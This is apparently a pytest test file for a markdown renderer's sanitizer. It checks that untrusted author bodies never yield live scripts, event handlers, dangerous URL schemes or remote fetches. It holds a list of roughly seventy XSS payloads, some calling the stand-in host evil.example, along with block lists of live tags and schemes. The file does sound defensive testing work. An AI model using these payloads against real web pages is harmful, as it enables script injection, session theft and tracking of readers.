"""Nothing that an author writes comes out live: no script, no handler, no address that runs, nothing fetched."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backfile.markdown.body import parse_body, render_inline
from properties import examples

VECTORS = Path(__file__).parents[3] / "shared/data/hostile/xss-vectors.json"
LIVE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "frame",
    "frameset",
    "applet",
    "portal",
    "textarea",
    "select",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "title",
    "animate",
    "set",
    "marquee",
}
FETCHED = {
    "img": ("src", "srcset"),
    "audio": ("src",),
    "video": ("src", "poster"),
    "source": ("src", "srcset"),
    "track": ("src",),
}
ADDRESSES = {
    "href",
    "src",
    "poster",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "background",
    "ping",
    "srcset",
    "lowsrc",
}


CONTROLS = "".join(map(chr, range(33)))
"""What a browser takes off the ends of an address; tabs and line ends it takes out of the middle, too."""


class Inspector(HTMLParser):
    """Gathers everything in a piece of HTML that a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip(CONTROLS).translate({9: None, 10: None, 13: None}).lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}={value}")
            if name in ADDRESSES and address.split(":", 1)[0] in (
                "javascript",
                "vbscript",
                "data",
                "livescript",
                "file",
                "blob",
            ):
                self.found.append(f"{tag} {name}={value}")
            if name in FETCHED.get(tag, ()) and ("//" in address.split("?", 1)[0][:9] or address.startswith("\\")):
                self.found.append(f"{tag} fetches {value}")


def live(html: str) -> list[str]:
    """What a browser would run or fetch in that HTML."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def body(markdown: str) -> str:
    """The HTML of a body that is not trusted."""
    return parse_body(markdown, linkify=True).html(lambda url: url)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](\\\\evil.example\\x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](https:evil.example/x.png)",
    '![x" onerror="alert(1)](y "t\\" onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](/y){onclick=alert(1)}",
    "[x](/y){href=javascript:alert(1) style=x}",
    "{onclick=alert(1) style='x'}\n> quote",
    "[x]{onmouseover=alert(1) src=x}",
    "![x](y){onerror=alert(1) srcset=//evil.example/x}",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<embed src='javascript:alert(1)'>",
    "<object data='javascript:alert(1)'></object>",
    "<video src=https://evil.example/x.mp4 poster=//evil.example/y.png></video>",
    "<video poster=//evil.example/y.png><source src=//evil.example/x.mp4></video>",
    "<audio src=//evil.example/x.mp3 controls></audio>",
    "<picture><source srcset='//evil.example/x 1x'><img src=a.png srcset='//evil.example/x 2x'></picture>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<table background=//evil.example/x.png><td background='javascript:alert(1)'></table>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "`<script>`<script>alert(1)</script>",
    '```"onmouseover=alert(1) x="\n```',
    "```<script>alert(1)</script>\nx\n```",
    "::: embed\njavascript:alert(1)\n:::",
    '::: embed\nhttps://x/"onmouseover="alert(1)\n:::',
    "https://x/<script>alert(1)</script>",
    "https://x/'onmouseover='alert(1)",
    "[^<script>alert(1)</script>]: x\n\n[^<script>alert(1)</script>]",
    "# <img src=x onerror=alert(1)>",
    '# x {#a" onclick="alert(1)}',
    '![a](b "<script>alert(1)</script><img src=x onerror=alert(1)>")',
    '![a](b "![c](//evil.example/x.png)")',
    '![a](b){credit="<script>alert(1)</script>"}',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a\n: <script>alert(1)</script>",
    "<b title='`<img src=x onerror=alert(1)>`'>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="//evil.example" ping="//evil.example">x</a>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_out_live(attack: str) -> None:
    """Alone, within a paragraph, within a quote, and as a caption."""
    for markdown in (attack, f"Text {attack} text", f"> {attack}", f"- {attack}\n\n<b>raw</b>"):
        assert live(body(markdown)) == []
    assert live(render_inline(attack.replace("\n", " "))) == []


@given(
    parts=st.lists(
        st.sampled_from(
            [*ATTACKS, "<b>", "</b>", '"', "'", "`", "<", ">", "&", "\n", " ", "](", "![", "{", "}", "<!--", "-->"]
        ),
        max_size=6,
    )
)
@examples(400)
def test_no_mixture_of_attacks_comes_out_live(parts: list[str]) -> None:
    """Put together in any order, with quotes, fences and brackets between."""
    assert live(body("".join(parts))) == []


@pytest.mark.skipif(not VECTORS.is_file(), reason="the collected attack vectors are not beside the repository")
def test_no_collected_vector_comes_out_live() -> None:
    """Two and a half thousand from DOMPurify, OWASP and others, as a body and as a caption."""
    vectors = json.loads(VECTORS.read_text(encoding="utf-8"))
    assert len(vectors) > 2000
    found = {v["id"]: live(body(v["payload"])) + live(render_inline(" ".join(v["payload"].split()))) for v in vectors}
    assert {name: things for name, things in found.items() if things} == {}


@pytest.mark.parametrize(
    ("markdown", "link"),
    [
        ("![Harbour](https://example.com/a.png)", 'href="https://example.com/a.png"'),
        ("<img src='https://example.com/a.png' alt='Harbour'>", 'href="https://example.com/a.png"'),
        ("<video src='https://example.com/a.mp4'></video>", 'href="https://example.com/a.mp4"'),
        ("<iframe src='https://example.com/v'></iframe>", 'href="https://example.com/v"'),
        ("![Harbour](//example.com/a.png)", 'href="//example.com/a.png"'),
    ],
)
def test_what_lies_on_other_servers_becomes_a_link(markdown: str, link: str) -> None:
    """Nothing is lost and nothing is loaded: the reader may follow it."""
    found = body(markdown)
    assert link in found
    assert live(found) == []


def test_harmless_html_stays() -> None:
    """What authors use raw HTML for comes through."""
    for html in (
        "<sub>2</sub>",
        "<kbd>Ctrl</kbd>",
        '<abbr title="a">b</abbr>',
        "<details><summary>a</summary>b</details>",
    ):
        assert html in body(f"Text {html} text")


def test_trusted_authors_are_trusted() -> None:
    """With `trusted_html` raw HTML passes unchanged."""
    html = '<script src="/own.js"></script>'
    assert html in parse_body(html, trusted_html=True).html(lambda url: url).replace("&amp;", "&")
